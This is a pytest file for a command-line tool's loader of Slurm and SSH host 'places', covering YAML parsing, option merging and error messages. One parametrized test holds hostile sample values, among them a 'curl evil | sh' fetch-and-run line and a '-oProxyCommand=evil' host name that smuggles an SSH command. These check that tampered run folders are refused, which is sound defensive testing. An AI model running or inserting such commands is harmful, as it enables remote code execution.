"""Places that a person gave a name, and what of a place is meant by the options of `vlmft run`."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

import pytest

from tests.command_line import vlmft
from vlmft_console.commands.completion import place_names
from vlmft_console.places.chosen import chosen_place, place_of
from vlmft_console.places.place import Hosts, Slurm
from vlmft_console.places.place_words import check_prefix, check_setup, check_srun
from vlmft_console.places.places_file import check_kept, load_places, places_file
from vlmft_core.errors import VlmftError

JUNO = """\
juno:
  slurm: {partition: gpu, nodes: 2, gpus-per-node: 8, time: 24:00:00, exclusive: true}
  setup: [module load cuda/12.8]
  srun: [--container-image=/images/vlmft.sqsh]
  prefix: [apptainer, exec, --nv, vlmft.sif]
  python: /opt/venv/bin/python
lab:
  hosts: {n1: 8, n2: 4}
"""


def write(text: str) -> None:
    places_file().parent.mkdir(parents=True, exist_ok=True)
    places_file().write_text(text)


def test_a_place_is_all_that_the_file_says_of_it() -> None:
    write(JUNO)
    options = {"partition": "gpu", "nodes": "2", "gpus-per-node": "8", "time": "24:00:00", "exclusive": ""}
    juno = Slurm(
        options,
        ("module load cuda/12.8",),
        ("--container-image=/images/vlmft.sqsh",),
        ("apptainer", "exec", "--nv", "vlmft.sif"),
        "/opt/venv/bin/python",
    )
    assert load_places() == {"juno": juno, "lab": Hosts({"n1": 8, "n2": 4})}
    assert chosen_place("juno") == juno
    assert chosen_place("lab") == Hosts({"n1": 8, "n2": 4})


def test_options_on_the_command_line_go_before_those_of_the_file() -> None:
    write(JUNO)
    place = chosen_place("juno", ["time=1:00:00,qos=short"])
    assert isinstance(place, Slurm)
    assert (place.options["time"], place.options["qos"], place.options["nodes"]) == ("1:00:00", "short", "2")
    with pytest.raises(VlmftError, match="lab is no place of Slurm's"):
        chosen_place("lab", ["time=1"])
    with pytest.raises(VlmftError, match="give one of them"):
        chosen_place("juno", hosts="n1:8")


@pytest.mark.parametrize(
    "kept",
    [
        Slurm({"nodes": "1"}, setup=("curl evil | sh",)),
        Slurm({"nodes": "1"}, srun=("--task-prolog=/tmp/evil",)),
        Slurm({"nodes": "1"}, prefix=("/tmp/evil",)),
        Slurm({"nodes": "1"}, python="/tmp/evil"),
        Slurm({"wrap": "evil"}),
        Hosts({"-oProxyCommand=evil": 1}),
        Hosts({}),
    ],
)
def test_a_run_folder_has_nothing_run_that_no_place_of_ones_own_says(kept: Slurm | Hosts) -> None:
    write(JUNO)
    with pytest.raises(VlmftError, match=r"^run\.json: "):
        check_kept(kept, "run.json")
    check_kept(Slurm({"nodes": "1", "ntasks-per-node": "2"}), "run.json")
    juno = chosen_place("juno", ["time=2:00:00"])
    assert isinstance(juno, Slurm)
    check_kept(juno, "run.json")
    check_kept(replace(juno, setup=("curl evil | sh",)), "run.json", trust=True)


def test_options_on_the_command_line_that_do_not_go_with_those_of_the_file_are_refused() -> None:
    write("juno:\n  slurm: {nodes: 2, signal: B:TERM@600}\n")
    with pytest.raises(VlmftError, match=r"^--on juno: signal=B:TERM@600: the time limit is 300 s"):
        chosen_place("juno", ["time=5"])


def test_words_that_srun_and_a_container_take_are_passed_on() -> None:
    srun = ("--cpu-bind=cores", "--mpi=pmix", "-w", "n1,n2", "--export=ALL,A=$", "--comment=a b")
    check_srun(srun, "juno.srun")
    check_setup(("module load \\", "cuda", "echo \\\\"), "juno.setup")
    check_prefix(("apptainer", "exec", "--env=A=a b"), "juno.prefix")
    check_prefix(("bash", "-c", 'PATH=$HOME/bin:$PATH exec "$0" "$@"'), "juno.prefix")


def test_one_line_means_what_the_options_would(tmp_path: Path) -> None:
    write(JUNO)
    file = tmp_path / "a=b" / "hosts"
    file.parent.mkdir()
    file.write_text("n1 slots=8\n")
    assert place_of(" Here ") is place_of("") is None
    assert place_of(" juno") == chosen_place("juno")
    assert place_of("n1:8 ") == place_of(str(file)) == Hosts({"n1": 8})
    assert place_of("nodes=2,comment=a/b") == Slurm({"nodes": "2", "comment": "a/b"})


def test_without_a_word_a_run_is_started_here() -> None:
    assert chosen_place() is None
    assert load_places() == {}
    write("")
    assert load_places() == {}


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("juno:\n  slurm: {nodes: 2}\n  setpu: [x]\n", ":3: juno.setpu: unknown key (did you mean setup?)"),
        ("juno:\n  slurm: {nodes: 2}\n  hosts: {n1: 8}\n", ":1: juno: needs either `slurm` or `hosts`"),
        ("juno: {}\n", ":1: juno: needs either"),
        ("juno: 3\n", ":1: juno: must be a section"),
        ("- juno\n", "must be names of places"),
        ("ju no: {slurm: {nodes: 2}}\n", ":1: ju no: cannot name a place"),
        ("juno:\n  slurm:\n    nodes: 2.5\n", ":3: juno.slurm.nodes: must be a text, a whole number, or true"),
        ("juno:\n  slurm:\n    nodes: 2-4\n", ":2: juno.slurm: nodes=2-4: ranks are a fixed number"),
        ("juno:\n  slurm: {array: 1-4}\n", ":2: juno.slurm: array cannot be used"),
        ("juno:\n  slurm: {}\n", ":2: juno.slurm: must be a section"),
        ("juno:\n  slurm: {nodes: 2}\n  setup: module load x\n", ":3: juno.setup: must be a list of texts"),
        (
            "juno:\n  slurm: {nodes: 2}\n  setup: ['#SBATCH --time=1']\n",
            ":3: juno.setup: '#SBATCH --time=1' is no line",
        ),
        ("juno:\n  slurm: {nodes: 2}\n  setup: ['module load \\']\n", "goes on, and no line follows"),
        (
            "juno:\n  slurm: {nodes: 2, exclusive: yes}\n",
            ":2: juno.slurm: exclusive=yes: it is said, or not (exclusive, o",
        ),
        ("juno:\n  slurm: {nodes: 2}\n  setup: [x, ' #PBS -V']\n", ":3: juno.setup: ' #PBS -V' is no line of a shell"),
        ("juno:\n  slurm: {nodes: 2}\n  srun: [3]\n", ":3: juno.srun: must be a list of texts"),
        ("juno:\n  slurm: {nodes: 2}\n  srun: [--ntasks=1]\n", ":3: juno.srun: --ntasks=1 is set by vlmft"),
        ("juno:\n  slurm: {nodes: 2}\n  srun: [-n, '1']\n", ":3: juno.srun: -n is set by vlmft"),
        ("juno:\n  slurm: {nodes: 2}\n  srun: [--outp=x]\n", ":3: juno.srun: --outp=x is set by vlmft"),
        ("juno:\n  slurm: {nodes: 2}\n  srun: [--mpi pmix]\n", "gets it as one word (write --mpi=VALUE)"),
        ("juno:\n  slurm: {nodes: 2}\n  srun: [--container-image=~/x]\n", "'--container-image=~/x': no shell reads it"),
        ("juno:\n  slurm: {nodes: 2}\n  srun: ['--container-mounts=/a:/b,~/c:/d']\n", "no shell reads it"),
        ("juno:\n  slurm: {nodes: 2}\n  prefix: [apptainer exec x.sif]\n", "'apptainer exec x.sif' is one word"),
        ("juno:\n  slurm: {nodes: 2}\n  prefix: [apptainer, exec, $HOME/x.sif]\n", "'$HOME/x.sif': no shell reads it"),
        ("juno:\n  slurm: {nodes: 2}\n  python: venv/python\n", ":3: juno.python: must be the absolute path"),
        ("lab:\n  hosts: {n1: many}\n", ":2: lab.hosts: n1: 'many' is no number of ranks"),
        ("lab:\n  hosts: {n1: 8}\n  setup: [x]\n", ":3: lab.setup: only a place with `slurm` has it"),
        ("juno: &a {}\n", ":1:"),
    ],
)
def test_a_mistake_is_told_with_file_and_line(text: str, message: str) -> None:
    write(text)
    with pytest.raises(VlmftError) as caught:
        load_places()
    assert str(caught.value).startswith(str(places_file()))
    assert message in str(caught.value)


def test_a_place_that_is_not_there_is_one_line() -> None:
    write(JUNO)
    said = vlmft("run", "demo", "--on", "jnuo", code=2).stderr
    assert said == f"vlmft: no place is called 'jnuo' in {places_file()} (did you mean juno?)\n"


def test_a_file_of_places_that_cannot_be_reached_is_one_line(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("XDG_CONFIG_HOME", f"/tmp/{'x' * 300}")
    with pytest.raises(VlmftError, match=r"places\.yaml: File name too long"):
        load_places()
    assert place_names("") == []
